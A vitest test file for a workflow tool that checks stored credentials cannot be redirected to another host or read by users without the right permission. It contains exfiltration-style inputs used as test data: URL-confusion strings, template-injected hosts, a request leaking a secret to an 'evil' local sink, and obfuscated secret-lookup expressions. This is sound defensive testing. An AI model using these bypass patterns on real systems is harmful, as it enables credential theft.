// Credentials go where whoever entered them said, and nowhere else: each way of an attack against two real receivers.

import { once } from 'node:events';
import { createServer, type IncomingHttpHeaders, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { startHookline, type TestHookline } from '../start-hookline.ts';

const BEARER = 'stored-bearer-token-777';
const API_KEY = 'stored-api-key-888888';
const NAMED = 'S3cr3t-Zebra-9182-token';
const BOUND = 'Bound-Walrus-5521-token';

interface Received {
  readonly url: string;
  readonly headers: IncomingHttpHeaders;
  readonly body: string;
}

interface Sink {
  readonly url: string;
  readonly host: string;
  readonly port: number;
  readonly received: Received[];
  readonly server: Server;
}

let hookline: TestHookline;
let own: Sink;
let evil: Sink;
const tokens: Record<string, string> = {};

async function startSink(): Promise<Sink> {
  const received: Received[] = [];
  const server = createServer(async (request, response) => {
    let body = '';
    for await (const chunk of request) body += chunk;
    received.push({ url: request.url ?? '', headers: request.headers, body });
    response.setHeader('Content-Type', 'application/json');
    response.end(JSON.stringify({ echo: [request.url, request.headers, body] }));
  }).listen(0, '127.0.0.1');
  await once(server, 'listening');
  const { port } = server.address() as AddressInfo;
  return { url: `http://127.0.0.1:${port}`, host: `127.0.0.1:${port}`, port, received, server };
}

async function makeToken(name: string, permissions: string[]): Promise<void> {
  const { body } = await hookline.api('POST', '/api/tokens', { name, permissions, expiresAt: null });
  tokens[name] = body.secret;
}

beforeAll(async () => {
  own = await startSink();
  evil = await startSink();
  hookline = await startHookline({ outboundAllow: [own.host, evil.host, `localhost:${own.port}`] });
  await makeToken('tester', ['executions:write']);
  await makeToken('deploy', ['workflows:read', 'workflows:write', 'executions:write', 'executions:read']);
  await makeToken('editor', ['workflows:read', 'workflows:write', 'executions:write', 'secrets:use']);
  expect((await hookline.api('POST', '/api/secrets', { name: 'CRM', value: NAMED })).status).toBe(201);
  const bound = { name: 'BOUND', value: BOUND, allowedHosts: [own.host] };
  expect((await hookline.api('POST', '/api/secrets', bound)).body.allowedHosts).toEqual([own.host]);
});
beforeEach(() => {
  own.received.length = 0;
  evil.received.length = 0;
});
afterAll(async () => {
  await hookline.stop();
  for (const { server } of [own, evil]) {
    server.closeAllConnections();
    server.close();
  }
});

async function as(token: string, method: string, path: string, body?: unknown) {
  const response = await fetch(`${hookline.url}${path}`, {
    method,
    headers: { Authorization: `Bearer ${tokens[token]}`, ...(body === undefined ? {} : { 'Content-Type': 'application/json' }) },
    ...(body === undefined ? {} : { body: JSON.stringify(body) }),
  });
  const text = await response.text();
  return { status: response.status, text, body: text === '' ? undefined : JSON.parse(text) };
}

const auth = { type: 'bearer', token: BEARER };
const secretHeaders = [{ name: 'X-Api-Key', value: API_KEY }];
const shownHeaders = [{ name: 'X-Api-Key' }];
const call = (config: object, key = 'call') => ({ key, type: 'http-request', config });
const trigger = { type: 'webhook' };
const make = (nodes: object[], more: object = {}) => hookline.workflow({ mode: 'sync', trigger, nodes, ...more });
const save = (id: string, nodes: object[]) => hookline.api('PATCH', `/api/workflows/${id}`, { nodes });
const codesOf = (answer: { body: { error?: { details?: { problems?: { code: string; path: string; severity: string }[] } } } }) =>
  (answer.body.error?.details?.problems ?? [])
    .filter(({ severity }) => severity === 'error')
    .map(({ code, path }) => `${code} ${path}`);

function expectNothingAt({ received }: Sink): void {
  expect(JSON.stringify(received)).not.toMatch(new RegExp([BEARER, API_KEY, NAMED, BOUND].join('|')));
}

describe('a write-only value of a node', () => {
  it.each([
    ['another port', () => evil.url],
    ['another host', () => `http://localhost:${own.port}`],
    ['https instead of http', () => `https://${own.host}`],
    ['the old host as a user name', () => `http://${own.host}@${evil.host}/`],
    ['a backslash', () => `http:\\\\${evil.host}\\${own.host}/`],
    ['a template as host', () => 'http://{{$context.body.host}}/'],
    ['a template as port', () => 'http://127.0.0.1:{{$context.body.port}}/'],
    ['a template behind the host', () => `http://127.0.0.1{{$context.body.rest}}`],
    ['a whole template', () => '{{$context.body.url}}'],
  ])('is refused for %s, and sent when it is entered again', async (_what, urlOf) => {
    const { id } = await make([call({ url: `${own.url}/a`, auth, secretHeaders })]);
    const url = urlOf();
    const allowedHosts = url.includes('{{') ? { allowedHosts: [evil.host] } : {};
    const refused = await save(id, [call({ url, auth: { type: 'bearer' }, secretHeaders: shownHeaders, ...allowedHosts })]);
    expect(refused.status).toBe(422);
    expect(codesOf(refused)).toEqual(
      expect.arrayContaining([
        'credential_dropped nodes[0].config.auth.token',
        'credential_dropped nodes[0].config.secretHeaders[0].value',
      ]),
    );
    const again = await save(id, [call({ url, auth, secretHeaders, ...allowedHosts })]);
    // Two of them are no URLs that a node takes.
    if (!/@|\\/.test(url)) expect([again.status, again.text]).toEqual([200, expect.anything()]);
    const tried = await hookline.api('POST', '/api/test-node', {
      workflowId: (await make([call({ url: `${own.url}/a`, auth, secretHeaders })])).id,
      mode: 'sync',
      effects: true,
      node: call({ url, auth: { type: 'bearer' }, secretHeaders: shownHeaders, ...allowedHosts }),
      variables: { context: { body: { host: evil.host, port: evil.port, rest: `:${evil.port}/`, url: evil.url } } },
    });
    expect(tried.body.error?.code).toBe('credential_dropped');
    expectNothingAt(evil);
  });

  it('stays for another path, query, case and a port that is written out', async () => {
    const { id, hookUrl } = await make([call({ url: 'http://Example.com/a', auth })]);
    for (const url of ['http://example.COM:80/b?c', 'http://example.com./', 'http://example.com/{{$context.body.x}}']) {
      expect((await save(id, [call({ url, auth: { type: 'bearer' } })])).status).toBe(200);
    }
    expect(codesOf(await save(id, [call({ url: 'http://example.com:81/', auth: { type: 'bearer' } })]))).toEqual([
      'credential_dropped nodes[0].config.auth.token',
    ]);
    expect(hookUrl).toContain('/hooks/');
  });

  it('is not carried over by a rename, a switch of the type and back, or a second node with the same key', async () => {
    const { id } = await make([call({ url: own.url, auth })], { enabled: false });
    const renamed = await save(id, [call({ url: evil.url, auth: { type: 'bearer' } }, 'other')]);
    expect(codesOf(renamed)).toContain('missing_secret nodes[0].config.auth.token');
    const twice = await save(id, [
      call({ url: own.url, auth: { type: 'bearer' } }),
      call({ url: evil.url, auth: { type: 'bearer' } }),
    ]);
    expect(twice.status).toBe(422);
    expect((await save(id, [{ key: 'call', type: 'variable', config: { value: 1 } }])).status).toBe(200);
    const back = await save(id, [call({ url: evil.url, auth: { type: 'bearer' } })]);
    expect(codesOf(back)).toContain('missing_secret nodes[0].config.auth.token');
  });

  it('waits to be entered again in a workflow that is disabled, which then cannot be enabled', async () => {
    const { id } = await make([call({ url: own.url, auth })], { enabled: false });
    const saved = await save(id, [call({ url: evil.url, auth: { type: 'bearer' } })]);
    expect(saved.status).toBe(200);
    expect(saved.body.problems).toContainEqual(expect.objectContaining({ code: 'credential_dropped', severity: 'warning' }));
    expect((await hookline.api('PATCH', `/api/workflows/${id}`, { enabled: true })).status).toBe(422);
    // Going back does not bring it back either.
    const back = await save(id, [call({ url: own.url, auth: { type: 'bearer' } })]);
    expect(back.body.problems).toContainEqual(expect.objectContaining({ code: 'missing_secret' }));
  });

  it('goes with duplicates and revisions to its own URL only, and not out of an export', async () => {
    const { id, hookUrl } = await make([call({ url: `${own.url}/first`, auth })]);
    await hookline.post(hookUrl, {});
    expect((await save(id, [call({ url: evil.url, auth: { type: 'bearer', token: 'for-the-other' } })])).body.revision).toBe(2);
    expect((await hookline.api('POST', `/api/workflows/${id}/revisions/1/activate`)).status).toBe(200);
    const copy = (await hookline.api('POST', `/api/workflows/${id}/duplicate`)).body;
    const moved = await save(copy.id, [call({ url: evil.url, auth: { type: 'bearer' } })]);
    expect(moved.body.problems).toContainEqual(expect.objectContaining({ code: 'credential_dropped' }));
    const exported = await hookline.api('GET', `/api/workflows/${id}/export`);
    expect(exported.text).not.toContain(BEARER);
    expect((await hookline.api('POST', '/api/workflows/import', exported.body)).body.problems).toContainEqual(
      expect.objectContaining({ code: 'missing_secret' }),
    );
    own.received.length = 0;
    await hookline.post(hookUrl, {});
    expect(own.received[0]?.headers.authorization).toBe(`Bearer ${BEARER}`);
    expectNothingAt(evil);
  });

  it('is not sent in a test by who may only run things', async () => {
    const { id } = await make([call({ url: own.url, auth, secretHeaders })]);
    for (const config of [
      { url: own.url, auth: { type: 'bearer' } },
      { url: evil.url, auth: { type: 'bearer' } },
      { url: own.url, secretHeaders: shownHeaders },
    ]) {
      const tried = await as('tester', 'POST', '/api/test-node', {
        workflowId: id,
        mode: 'sync',
        effects: true,
        node: call(config),
      });
      expect([tried.status, tried.body.error?.details.permission]).toEqual([403, 'workflows:write']);
    }
    expect([...own.received, ...evil.received]).toEqual([]);
    const tried = await as('deploy', 'POST', '/api/test-node', {
      ...{ workflowId: id, mode: 'sync', effects: true },
      node: call({ url: `${own.url}/other`, auth: { type: 'bearer' } }),
    });
    expect(tried.body.status).toBe('succeeded');
    expect(own.received[0]?.headers.authorization).toBe(`Bearer ${BEARER}`);
  });

  it('of a webhook to one URL is treated the same, and a key that only signs stays', async () => {
    const to = (change: object) => ({
      key: 'send',
      type: 'send-webhook',
      config: { to: { type: 'url', secretHeaders: shownHeaders, ...change } },
    });
    const secret = `whsec_${Buffer.alloc(32, 'k').toString('base64')}`;
    const { id } = await make([to({ url: own.url, secret, secretHeaders })], { mode: 'async' });
    expect(codesOf(await save(id, [to({ url: evil.url })]))).toEqual([
      'credential_dropped nodes[0].config.to.secretHeaders[0].value',
    ]);
    expect((await save(id, [to({ url: evil.url, secretHeaders: [] })])).status).toBe(200);
    expect((await hookline.api('GET', `/api/workflows/${id}/write-only`)).body.nodes.send).toEqual(['to.secret']);
  });
});

describe('an endpoint', () => {
  it('takes no secret header to another host', async () => {
    const { body } = await hookline.api('POST', '/api/endpoints', { url: `${own.url}/a`, secretHeaders });
    const path = `/api/endpoints/${body.id}`;
    for (const change of [{ url: evil.url }, { url: evil.url, secretHeaders: shownHeaders }, { url: `https://${own.host}/a` }]) {
      const refused = await hookline.api('PATCH', path, change);
      expect([refused.status, ...codesOf(refused)]).toEqual([422, 'credential_dropped secretHeaders[0].value']);
    }
    expect((await hookline.api('PATCH', path, { url: `${own.url}/b` })).status).toBe(200);
    await hookline.api('POST', `${path}/test`, {});
    expect(own.received[0]?.headers['x-api-key']).toBe(API_KEY);
    const again = [{ name: 'X-Api-Key', value: 'another-key' }];
    expect((await hookline.api('PATCH', path, { url: evil.url, secretHeaders: again })).status).toBe(200);
    await hookline.api('POST', `${path}/test`, {});
    expect(evil.received[0]?.headers['x-api-key']).toBe('another-key');
    expect(evil.received[0]?.headers['webhook-signature']).toMatch(/^v1,/);
  });
});

describe('a host that comes from a template', () => {
  const url = 'http://{{$context.body.host}}/x';
  it.each([
    ['a bearer token', { url, auth }],
    ['a secret header', { url, secretHeaders }],
    ['a named secret', { url, headers: [{ name: 'X-Key', value: '{{$secrets.CRM}}' }] }],
    ['a named secret in the query', { url, query: [{ name: 's', value: '{{$secrets.CRM}}' }] }],
    ['a template that makes up the end of the host', { url: 'http://127.0.0.1{{$context.body.rest}}', auth }],
  ])('needs a list of hosts with %s, which is looked at when it runs', async (_what, config) => {
    const input = { title: 'x', mode: 'sync', enabled: true, trigger };
    const refused = await hookline.api('POST', '/api/workflows', { ...input, nodes: [call(config)] });
    expect(codesOf(refused)).toContain('allowed_hosts_needed nodes[0].config.allowedHosts');
    const { hookUrl } = await make([call({ ...config, allowedHosts: [own.host] })]);
    const body = (sink: Sink) => ({ host: sink.host, rest: `:${sink.port}/` });
    expect((await hookline.post(hookUrl, body(own))).status).toBe(200);
    expect(own.received).toHaveLength(1);
    const answer = await hookline.post(hookUrl, body(evil));
    expect(answer.status).toBe(500);
    const execution = await hookline.api('GET', `/api/executions/${answer.headers.get('x-hookline-execution-id')}`);
    expect(execution.body.error).toMatchObject({ code: 'host_not_allowed', message: expect.stringContaining(evil.host) });
    expect(evil.received).toEqual([]);
  });

  it('needs none without credentials', async () => {
    const { hookUrl } = await make([call({ url })]);
    expect((await hookline.post(hookUrl, { host: evil.host })).status).toBe(200);
    expect(evil.received).toHaveLength(1);
  });

  it('gets no secret that comes along through a variable', async () => {
    const value = { key: 'v', type: 'variable', config: { value: '{{$secrets.CRM}}' } };
    const { hookUrl } = await make([value, call({ url, headers: [{ name: 'X-Key', value: '{{$nodes.v}}' }] })]);
    expect((await hookline.post(hookUrl, { host: evil.host })).status).toBe(500);
    expect(evil.received).toEqual([]);
  });

  it('takes no list from a template, and drops what is stored when the list grows', async () => {
    const input = { title: 'x', mode: 'sync', trigger };
    for (const allowedHosts of [['{{$context.body.host}}'], '{{$context.body.hosts}}', ['*.com'], ['http://a.example']]) {
      expect(
        (await hookline.api('POST', '/api/workflows', { ...input, nodes: [call({ url, auth, allowedHosts })] })).status,
      ).toBe(422);
    }
    const { id } = await make([call({ url, auth, allowedHosts: [own.host] })]);
    const kept = { url, auth: { type: 'bearer' } };
    expect(codesOf(await save(id, [call({ ...kept, allowedHosts: [own.host, evil.host] })]))).toEqual([
      'credential_dropped nodes[0].config.auth.token',
    ]);
    const tried = await hookline.api('POST', '/api/test-node', {
      ...{ workflowId: id, mode: 'sync', effects: true, variables: { context: { body: { host: evil.host } } } },
      node: call({ ...kept, allowedHosts: [evil.host] }),
    });
    expect(tried.body.error.code).toBe('credential_dropped');
    expectNothingAt(evil);
  });
});

describe('a named secret with allowed hosts', () => {
  it('is sent there and nowhere else', async () => {
    const headers = [{ name: 'X-Key', value: '{{$secrets.BOUND}}' }];
    const { hookUrl } = await make([
      call({ url: own.url, headers }),
      { key: 'out', type: 'response', config: { body: '{{$nodes.call.body}}' } },
    ]);
    const answer = await hookline.post(hookUrl, {});
    expect(own.received[0]?.headers['x-key']).toBe(BOUND);
    // The receiver sent it back: what follows does not get it.
    expect(answer.text).toContain('[secret BOUND]');
    expect(answer.text).not.toContain(BOUND);
    const input = { title: 'x', mode: 'sync', enabled: true, trigger };
    const refused = await hookline.api('POST', '/api/workflows', { ...input, nodes: [call({ url: evil.url, headers })] });
    expect(codesOf(refused)).toEqual(['host_not_allowed nodes[0].config.url']);
  });

  it.each([
    ['a variable', { key: 'n', type: 'variable', config: { value: '{{$secrets.BOUND}}' } }],
    ['a calculation', { key: 'n', type: 'calculation', config: { engine: 'jsonata', expression: '$split($secrets.BOUND, "")' } }],
    ['a formula', { key: 'n', type: 'calculation', config: { engine: 'formula', expression: 'LEFT({{$secrets.BOUND}}, 8)' } }],
    ['a reply', { key: 'n', type: 'response', config: { body: '{{$secrets.BOUND}}' } }],
    [
      'a webhook to all subscribers',
      { key: 'n', type: 'send-webhook', config: { event: 'a.b', data: { s: '{{$secrets.BOUND}}' } } },
    ],
  ])('cannot be used in %s', async (_what, node) => {
    const mode = node.type === 'response' ? 'sync' : 'async';
    const input = { title: 'x', mode, enabled: true, trigger };
    const refused = await hookline.api('POST', '/api/workflows', { ...input, nodes: [node] });
    expect(codesOf(refused)[0]).toMatch(/^secret_not_allowed_here nodes\[0\]\.config/);
    const tried = await hookline.api('POST', '/api/test-node', { mode, node, effects: true });
    expect(tried.body.error.code).toBe('secret_not_allowed_here');
  });

  it('is not in $secrets as a whole', async () => {
    for (const expression of ['$keys($secrets)', '$secrets', '$lookup($secrets, "BOU" & "ND")', '$secrets.BOUND']) {
      const { body } = await hookline.api('POST', '/api/evaluate', { engine: 'jsonata', expression });
      expect(JSON.stringify(body)).not.toContain(BOUND);
      if (expression !== '$secrets.BOUND') expect(JSON.stringify(body.value ?? null)).not.toContain('BOUND');
      else expect(body.error.code).toBe('secret_not_allowed_here');
    }
  });

  it('needs its value again to be allowed more hosts', async () => {
    const change = (body: object) => hookline.api('PATCH', '/api/secrets/BOUND', body);
    for (const allowedHosts of [null, [own.host, evil.host], ['*.example.com']]) {
      expect((await change({ allowedHosts })).body.error?.details.problems[0].path).toBe('value');
    }
    expect((await change({ allowedHosts: [own.host] })).status).toBe(200);
    expect((await change({ allowedHosts: ['http://x'] })).status).toBe(400);
    expect((await change({ allowedHosts: [own.host, 'api.example.com'], value: BOUND })).status).toBe(200);
    expect((await change({ allowedHosts: [own.host] })).body.allowedHosts).toEqual([own.host]);
  });
});

describe('who may not use secrets', () => {
  it.each([
    { engine: 'jsonata', expression: '$split($secrets.CRM, "")' },
    { engine: 'jsonata', expression: '$keys($secrets)' },
    { engine: 'jsonata', expression: '$eval("$secrets.CRM")' },
    { engine: 'formula', expression: 'LEFT({{$secrets.CRM}},8)' },
    { engine: 'mathjs', expression: 'concat({{$secrets.CRM}}, "")' },
    { engine: 'template', expression: { a: ['{{ $secrets.CRM }}'] } },
    { engine: 'jmespath', expression: '"$secrets".CRM' },
    { engine: 'jsonpath', expression: "$['$secrets'].CRM" },
    { engine: 'jsonata', expression: 'a', source: { a: '{{$secrets["CRM"]}}' } },
    {
      engine: 'basic',
      expression: { all: [{ left: '{{$secrets.CRM}}', operator: 'startsWith', right: 'S' }] },
    },
  ])('reads none with $engine $expression', async (body) => {
    const answer = await as('tester', 'POST', '/api/evaluate', body);
    expect([answer.status, answer.body.error?.details?.permission]).toEqual([403, 'secrets:use']);
    expect(answer.text).not.toContain('Zebra');
  });

  it('gets no value by a name that is made up', async () => {
    for (const expression of ['$eval("$sec" & "rets.CRM")', '$lookup($$, "$sec" & "rets")', '$$', '**']) {
      const answer = await as('tester', 'POST', '/api/evaluate', { engine: 'jsonata', expression });
      expect(answer.text).not.toContain('Zebra');
    }
  });

  it('tests no node that names them', async () => {
    const inside = { key: 'v', type: 'variable', config: { value: '{{$secrets.CRM}}' } };
    for (const node of [
      inside,
      { key: 'l', type: 'loop', config: { over: [1] }, branches: { each: [inside] } },
      {
        key: 'j',
        type: 'javascript',
        config: { code: 'return [...s]', arguments: [{ name: 's', value: '{{$secrets.CRM}}' }] },
      },
      call({ url: `${evil.url}/?s={{$secrets.CRM}}` }),
    ]) {
      const answer = await as('tester', 'POST', '/api/test-node', { mode: 'async', node, effects: true });
      expect([answer.status, answer.body.error?.details?.permission]).toEqual([403, 'secrets:use']);
    }
    const stored = await make([call({ url: own.url, auth: { type: 'bearer', token: '{{$secrets.CRM}}' } })]);
    const answer = await as('deploy', 'POST', '/api/test-node', {
      ...{ workflowId: stored.id, mode: 'sync', effects: true },
      node: call({ url: own.url, auth: { type: 'bearer' } }),
    });
    expect([answer.status, answer.body.error?.details?.permission]).toEqual([403, 'secrets:use']);
    expect([...own.received, ...evil.received]).toEqual([]);
  });

  it('adds and changes no place that names them, and leaves others as they are', async () => {
    const value = { key: 'v', type: 'variable', config: { value: '{{$secrets.CRM}}' } };
    const bound = call({ url: own.url, auth: { type: 'bearer', token: '{{$secrets.CRM}}' } });
    const shown = call({ url: own.url, auth: { type: 'bearer' } });
    const note = { key: 'n', type: 'variable', config: { value: 1 } };
    const input = { title: 'x', mode: 'sync', trigger };
    const isRefused = ({ status, body }: Awaited<ReturnType<typeof as>>) =>
      expect([status, body.error?.details?.permission]).toEqual([403, 'secrets:use']);
    isRefused(await as('deploy', 'POST', '/api/workflows', { ...input, nodes: [value] }));
    isRefused(await as('deploy', 'POST', '/api/workflows/import', { hookline: 1, ...input, nodes: [bound] }));
    expect((await as('editor', 'POST', '/api/workflows', { ...input, nodes: [value] })).status).toBe(201);

    const { id } = await make([bound]);
    const path = `/api/workflows/${id}`;
    // Moved, with another node beside it.
    expect((await as('deploy', 'PATCH', path, { nodes: [note, shown] })).status).toBe(200);
    expect((await as('deploy', 'PATCH', path, { title: 'Another title' })).status).toBe(200);
    isRefused(await as('deploy', 'PATCH', path, { nodes: [note, call({ ...shown.config, method: 'POST' })] }));
    isRefused(await as('deploy', 'PATCH', path, { nodes: [note, shown, value] }));
    isRefused(await as('deploy', 'POST', `${path}/duplicate`));
    // A new key is a new place.
    isRefused(await as('deploy', 'PATCH', path, { nodes: [{ ...bound, key: 'renamed' }] }));
    // Taking it away is allowed, bringing it back is not.
    const { hookUrl } = (await hookline.api('GET', path)).body;
    await hookline.post(hookUrl, {});
    const { revision } = (await as('deploy', 'PATCH', path, { nodes: [note] })).body;
    expect(revision).toBe(2);
    isRefused(await as('deploy', 'POST', `${path}/revisions/1/activate`));

    // What a variable has read can be passed on without naming a secret.
    const flow = await make([value]);
    isRefused(
      await as('deploy', 'PATCH', `/api/workflows/${flow.id}`, {
        nodes: [value, { key: 'out', type: 'response', config: { body: '{{$nodes.v}}' } }],
      }),
    );
    expect((await as('deploy', 'PATCH', `/api/workflows/${flow.id}`, { nodes: [value, note] })).status).toBe(200);
  });
});
